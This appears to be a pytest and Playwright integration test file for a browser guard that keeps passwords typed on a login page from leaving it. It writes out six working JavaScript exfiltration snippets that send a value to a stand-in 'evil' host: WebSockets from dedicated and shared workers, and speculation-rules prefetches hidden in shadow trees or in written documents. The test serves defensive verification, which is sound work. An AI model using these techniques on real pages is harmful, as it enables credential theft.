"""Ways out that are no requests to the guard: each of them leaked before it was shut."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.integration.browser.acts import PASSWORD, eventually, received, type_in

if TYPE_CHECKING:
    from playwright.async_api import Page

    from fixtures.login_site.serving import Site
    from tests.integration.conftest import Opener

pytestmark = pytest.mark.browser

SOCKET = """const socket = new WebSocket(evil.replace('http', 'ws') + '/ws');
  socket.onopen = () => { socket.send(value); over(); }; socket.onerror = over;"""
RULES = """const script = document.createElement('script');
  script.type = 'speculationrules';
  const urls = [evil + '/collect?' + value];
  script.textContent = JSON.stringify({prefetch: [{source: 'list', urls}]});
  const host = document.body.appendChild(document.createElement('div'));
  const done = () => performance.mark('over') && setTimeout(over, 1000);"""
WAYS = {
    "a worker's socket": """new Promise((over) => {
        const body = `const [evil, value] = ${JSON.stringify([evil, value])};
          const over = () => postMessage(1); SOCKET`;
        new Worker(URL.createObjectURL(new Blob([body]))).onmessage = over; })""".replace(
        "SOCKET", SOCKET
    ),
    "a shared worker's socket": """new Promise((over) => {
        const body = `const [evil, value] = ${JSON.stringify([evil, value])};
          onconnect = (event) => { const over = () => event.ports[0].postMessage(1); SOCKET };`;
        new SharedWorker(URL.createObjectURL(new Blob([body]))).port.onmessage = over;
        })""".replace("SOCKET", SOCKET),
    "a prefetch": f"new Promise((over) => {{ {RULES} host.append(script); done(); }})",
    "a prefetch in a shadow tree": f"""new Promise((over) => {{ {RULES}
        host.attachShadow({{mode: 'closed'}}).append(script); done(); }})""",
    "a prefetch in a declared shadow tree": f"""new Promise((over) => {{ {RULES}
        host.setHTMLUnsafe('<p><template shadowrootmode=open></template></p>');
        host.firstChild.shadowRoot.append(script); done(); }})""",
    "a prefetch in a written document": f"""new Promise((over) => {{ {RULES}
        document.open(); document.write('<body>' + script.outerHTML); document.close(); done();
        }})""",
}


async def send(page: Page, site: Site, way: str, value: str) -> None:
    await page.evaluate(f"([evil, value]) => {WAYS[way]}.then(() => 1)", [site.evil, value])


@pytest.mark.parametrize("way", WAYS)
async def test_it_does_not_carry_a_typed_value_away(
    way: str, open_session: Opener, site: Site
) -> None:
    account = site.new_account()
    async with open_session(account) as session:
        await session.page.goto(f"{site.origin}/login")
        await type_in(session, PASSWORD, "password")
        await send(session.page, site, way, account.password)
    assert received(site, account) == frozenset()


async def test_all_of_these_work_in_a_browser_without_secrets(
    open_session: Opener, site: Site
) -> None:
    """Positive control."""
    arrived = set()
    async with open_session(None) as session:
        for way in WAYS:
            account = site.new_account()
            await session.page.goto(f"{site.origin}/login")
            await send(session.page, site, way, account.password)
            await eventually(lambda account=account: received(site, account))
            arrived.add(way)
    assert arrived == set(WAYS)


async def test_sockets_to_the_site_itself_still_open(open_session: Opener, site: Site) -> None:
    async with open_session(site.new_account()) as session:
        await session.page.goto(f"{site.origin}/login")
        await type_in(session, PASSWORD, "password")
        await session.page.evaluate(
            f"""([evil, value]) => new Promise((over, failed) => {{ {SOCKET}
            socket.onerror = failed; }})""",
            [site.origin, "a greeting"],
        )


async def test_web_rtc_is_gone_from_every_frame_while_secrets_are_bound(
    open_session: Opener, site: Site
) -> None:
    async with open_session(site.new_account()) as session:
        await session.page.goto(f"{site.origin}/login")
        fresh = "document.body.appendChild(document.createElement('iframe')).contentWindow"
        for window in ("window", fresh):
            kind = await session.page.evaluate(f"typeof {window}.RTCPeerConnection")
            assert kind == "undefined"
